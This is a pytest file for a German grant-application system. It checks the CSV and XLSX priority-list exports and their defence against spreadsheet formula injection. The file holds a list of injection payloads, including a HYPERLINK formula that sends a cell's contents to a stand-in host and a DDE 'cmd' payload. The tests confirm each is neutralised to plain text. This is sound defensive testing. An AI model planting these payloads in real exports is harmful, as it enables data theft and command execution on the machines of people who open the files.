"""The priority list for the bank: CSV for German Excel and XLSX, with the ranked rows in order, the budget line
and the resolution's state."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

from openpyxl import load_workbook

from tests.factories import AFTER_CLOSE, World, full_marks, proposal_in
from tests.web.conftest import Clock
from tests.web.test_ranking_page import three_scored
from workflow.context import Context
from workflow.people.actors import SYSTEM
from workflow.people.roles import Role
from workflow.persistence import models


def test_the_csv_is_for_german_excel_with_the_ranked_rows_in_order(
        ctx: Context, world: World, browser_for: Any, clock: Clock) -> None:
    ctx.admin.set_budget(SYSTEM, world.alliance_id, 2026, 5_000_000)
    three_scored(ctx, world)
    clock.now = AFTER_CLOSE
    response = browser_for(world.actor(Role.MANAGER)).get(f"/app/rounds/{world.round_id}/priority-list.csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment;")
    assert f'filename="prioritaetenliste-runde-{world.round_id}-einreichungstermin-31-mai-2026.csv"' in disposition
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:4] == ["Rang", "Antrags-Nr.", "Titel", "Stand"] and rows[0][6] == "Zuschuss 2026 (EUR)"
    assert [(r[0], r[2], r[6], r[7], r[8]) for r in rows[1:4]] == [
        ("1", "MINT-Netzwerk Leipzig", "45000,00", "45000,00", "ja"),
        ("2", "Logistik-Lotsen", "45000,00", "90000,00", "nein"),
        ("3", "Pflege-Kompass", "45000,00", "90000,00", "zählt nicht")]
    summary = {r[0]: r[1] for r in rows[5:] if r}
    assert summary["Verfügbar"] == "50000,00" and summary["Beschlussstand"] == "noch kein Beschluss"


def test_the_xlsx_keeps_amounts_as_euro_numbers_under_a_frozen_header(
        ctx: Context, world: World, browser_for: Any, clock: Clock) -> None:
    top, middle, low = three_scored(ctx, world)
    clock.now = AFTER_CLOSE
    ctx.priorisation.resolve(world.actor(Role.MANAGER), world.round_id,
                             {"decided_on": "2026-06-29", "prioritised": [top]}, now=AFTER_CLOSE)
    response = browser_for(world.actor(Role.REVIEWER)).get(f"/app/rounds/{world.round_id}/priority-list.xlsx")
    assert response.status_code == 200
    assert response.headers["content-disposition"].startswith("attachment;")
    assert ".xlsx" in response.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]][:3] == ["Rang", "Antrags-Nr.", "Titel"]
    assert [sheet.cell(row=r, column=2).value for r in (2, 3, 4)] == [top, middle, low]
    grant = sheet.cell(row=2, column=7)
    assert grant.value == 45000 and "€" in grant.number_format
    assert sheet.cell(row=2, column=10).value == "priorisiert"
    assert sheet.column_dimensions["C"].width > 20
    labels = {sheet.cell(row=r, column=1).value: sheet.cell(row=r, column=2).value for r in range(6, sheet.max_row + 1)}
    assert labels["Beschlussstand"] == "Beschluss Version 1 vom 29.06.2026"
    assert labels["In dieser Runde gebunden"] == 45000


def test_an_applicant_gets_no_priority_list(ctx: Context, world: World, browser_for: Any) -> None:
    three_scored(ctx, world)
    applicant = browser_for(world.actor(Role.APPLICANT))
    for ext in ("csv", "xlsx"):
        response = applicant.get(f"/app/rounds/{world.round_id}/priority-list.{ext}")
        assert response.status_code == 404 and "MINT-Netzwerk" not in response.text
        assert "attachment" not in response.headers.get("content-disposition", "")


# --- formula injection (issue 22): a title or name is text in the bank's spreadsheet, never a formula -----------

DANGEROUS = ['=HYPERLINK("http://x/?"&A1,"Klick")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]


def _rename(ctx: Context, model: Any, row_id: int, **values: str) -> None:
    """As a row written before names were checked could hold it (a tab or CR in front is refused today)."""
    with ctx.db.write() as session:
        row = session.get(model, row_id)
        for name, value in values.items():
            setattr(row, name, value)
        session.add(row)


def _dangerous_round(ctx: Context, world: World) -> list[int]:
    ids = [proposal_in(ctx, world, "in_review", title=title)[0] for title in DANGEROUS]
    ids += [proposal_in(ctx, world, "in_review", title="Tabulator")[0], proposal_in(ctx, world, "in_review")[0]]
    _rename(ctx, models.Proposal, ids[4], title="\t=1+1")
    _rename(ctx, models.Proposal, ids[5], title="\r=1+1")
    _rename(ctx, models.Round, world.round_id, name="=HYPERLINK(\"http://x/\",\"Runde\")")
    ctx.scoring.score(world.actor(Role.REVIEWER), ids[0], full_marks(ctx, ids[0]), now=AFTER_CLOSE)
    ctx.priorisation.resolve(world.actor(Role.MANAGER), world.round_id,
                             {"decided_on": "2026-06-29", "prioritised": [ids[0]]}, now=AFTER_CLOSE)
    ctx.admin.set_budget(SYSTEM, world.alliance_id, 2026, 1_000_000)  # 10,000 EUR: the free line goes negative
    return ids


NEUTRALISED = {"'" + t for t in DANGEROUS} | {"'\t=1+1", "'\r=1+1"}


def test_titles_and_round_names_that_start_a_formula_stay_text_in_the_csv(
        ctx: Context, world: World, browser_for: Any, clock: Clock) -> None:
    _dangerous_round(ctx, world)
    clock.now = AFTER_CLOSE
    response = browser_for(world.actor(Role.MANAGER)).get(f"/app/rounds/{world.round_id}/priority-list.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert {r[2] for r in rows[1:7]} == NEUTRALISED
    summary = {r[0]: r[1] for r in rows[8:] if r}
    assert summary["Runde"] == "'=HYPERLINK(\"http://x/\",\"Runde\")"
    assert summary["Noch frei"] == "-35000,00"  # a negative amount is a number, not text to neutralise


def test_titles_and_round_names_that_start_a_formula_are_string_cells_in_the_xlsx(
        ctx: Context, world: World, browser_for: Any, clock: Clock) -> None:
    _dangerous_round(ctx, world)
    clock.now = AFTER_CLOSE
    response = browser_for(world.actor(Role.REVIEWER)).get(f"/app/rounds/{world.round_id}/priority-list.xlsx")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the sheet
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    titles = [sheet.cell(row=r, column=3) for r in range(2, 8)]
    assert {c.value for c in titles} == NEUTRALISED and {c.data_type for c in titles} == {"s"}
    labels = {sheet.cell(row=r, column=1).value: sheet.cell(row=r, column=2) for r in range(9, sheet.max_row + 1)}
    assert labels["Runde"].value == "'=HYPERLINK(\"http://x/\",\"Runde\")" and labels["Runde"].data_type == "s"
    assert labels["Noch frei"].value == -35000 and labels["Noch frei"].data_type == "n"

